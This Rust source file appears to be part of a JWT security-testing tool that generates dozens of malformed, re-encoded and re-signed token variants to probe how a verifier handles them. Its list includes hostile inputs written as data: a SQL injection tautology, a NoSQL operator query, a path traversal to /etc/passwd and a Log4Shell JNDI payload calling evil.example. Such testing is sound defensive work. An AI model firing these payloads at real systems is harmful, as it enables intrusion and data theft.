//! What is no token, or was one before somebody wrapped it into something.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use jsonwebtoken::Algorithm;
use serde_json::json;

use super::{Loot, Named, encoded, signed_by, with};

pub(super) fn tokens(loot: &Loot) -> Vec<Named> {
    let [header, claims, signature] = loot.parts();
    let (good, refresh) = (&loot.token, &loot.refresh_token);
    let encrypted = encoded(json!({ "alg": "dir", "enc": "A256GCM" }).to_string());
    let flattened = json!({ "protected": header, "payload": claims, "signature": signature });
    let nested = encoded(with(&loot.header(), "cty", "JWT").to_string());
    let tokens: [(&str, String); 51] = [
        ("a letter", "a".to_owned()),
        ("a dot", ".".to_owned()),
        ("two dots", "..".to_owned()),
        ("three dots", "...".to_owned()),
        ("a thousand dots", ".".repeat(1_000)),
        ("three letters", "a.b.c".to_owned()),
        ("three empty objects", "e30.e30.e30".to_owned()),
        ("null", "null".to_owned()),
        ("undefined", "undefined".to_owned()),
        ("true", "true".to_owned()),
        ("zero", "0".to_owned()),
        ("an object of a script", "[object Object]".to_owned()),
        ("a query for a store", r#"{"$gt":""}"#.to_owned()),
        ("a query for a table", "' OR '1'='1".to_owned()),
        ("a path", "../../../../etc/passwd".to_owned()),
        ("a template", "${jndi:ldap://evil.example/a}".to_owned()),
        ("the refresh token", refresh.clone()),
        ("the refresh token three times", format!("{refresh}.{refresh}.{refresh}")),
        ("the refresh token with our signature", signed_by(&loot.key, Algorithm::EdDSA, header, refresh)),
        ("a header alone", header.to_owned()),
        ("claims alone", claims.to_owned()),
        ("no signature part", format!("{header}.{claims}")),
        ("no header part", format!("{claims}.{signature}")),
        ("an empty header part", format!(".{claims}.{signature}")),
        ("an empty claims part", format!("{header}..{signature}")),
        ("a dot before it", format!(".{good}")),
        ("a dot after it", format!("{good}.")),
        ("a part after it", format!("{good}.{signature}")),
        ("a part before it", format!("{header}.{good}")),
        ("a detached form", format!("{header}..{}", signature)),
        (
            "an encrypted form",
            format!("{encrypted}..{}.{}.{}", encoded([0; 12]), encoded([0; 40]), encoded([0; 16])),
        ),
        ("five parts", format!("{good}.{header}.{claims}")),
        ("a nested form", signed_by(&loot.key, Algorithm::EdDSA, &nested, &encoded(good))),
        ("a form in JSON", flattened.to_string().replace(',', "%2C")),
        ("parts in another order", format!("{claims}.{header}.{signature}")),
        ("a token twice, with a comma", format!("{good},{good}")),
        ("a token twice, with a space", format!("{good} {good}")),
        ("a scheme twice", format!("Bearer {good}")),
        ("a token in quotes", format!("'{good}'")),
        ("a token in brackets", format!("<{good}>")),
        ("a token that is encoded", encoded(good)),
        ("a token for a URL", good.replace('.', "%2E")),
        ("a token with slashes", good.replace('.', "/")),
        ("a token with wide dots", good.replace('.', "\u{ff0e}")),
        ("a token with what cannot be seen", good.replace('.', "\u{200b}.")),
        ("a token in capitals", good.to_uppercase()),
        ("a token in small letters", good.to_lowercase()),
        ("a token backwards", good.chars().rev().collect()),
        ("a token with a space in it", format!("{} {}", &good[..9], &good[9..])),
        ("a long token", "a".repeat(60_000)),
        ("a long token of three parts", format!("{header}.{}.{signature}", "a".repeat(120_000))),
    ];
    let named = tokens.into_iter().map(|(name, token)| (name.to_owned(), token));
    named.chain(written_otherwise(loot)).collect()
}

/// One text has one way of being written. All are signed as they stand.
fn written_otherwise(loot: &Loot) -> Vec<Named> {
    let (header, claims) = (loot.header().to_string(), loot.claims().to_string());
    // With spaces at its end each has a length that is padded, and bits in its last letter that nobody reads.
    let of_length = |text: &str, rest: usize| {
        let spaces = (rest + 3 - text.len() % 3) % 3;
        format!("{text}{}", " ".repeat(spaces))
    };
    let (header, claims) = (of_length(&header, 1), of_length(&claims, 1));
    let sign = |header: String, claims: String| signed_by(&loot.key, Algorithm::EdDSA, &header, &claims);
    let unread_bits = |text: &str| {
        let written = encoded(text);
        let (rest, last) = written.split_at(written.len() - 1);
        let next = last.bytes().next().map_or('B', |letter| char::from(letter + 1));
        format!("{rest}{next}")
    };
    let mut tokens: Vec<Named> = Vec::new();
    let mut add = |name: &str, token: String| tokens.push((name.to_owned(), token));
    add("a header with padding", sign(URL_SAFE.encode(&header), encoded(&claims)));
    add("claims with padding", sign(encoded(&header), URL_SAFE.encode(&claims)));
    add("a header in base64", sign(STANDARD.encode(&header), encoded(&claims)));
    add("claims in base64", sign(encoded(&header), STANDARD.encode(&claims)));
    add("a header with bits that nobody reads", sign(unread_bits(&header), encoded(&claims)));
    add("claims with bits that nobody reads", sign(encoded(&header), unread_bits(&claims)));
    add("a header that is not encoded", sign(header.replace([' ', ','], "%20"), encoded(&claims)));
    add("a header that is encoded twice", sign(encoded(encoded(&header)), encoded(&claims)));
    add("claims that are encoded twice", sign(encoded(&header), encoded(encoded(&claims))));
    let (start, end) = claims.split_at(20);
    add(
        "claims with a space in them",
        sign(encoded(&header), format!("{} {}", encoded(start), encoded(end))),
    );
    tokens
}
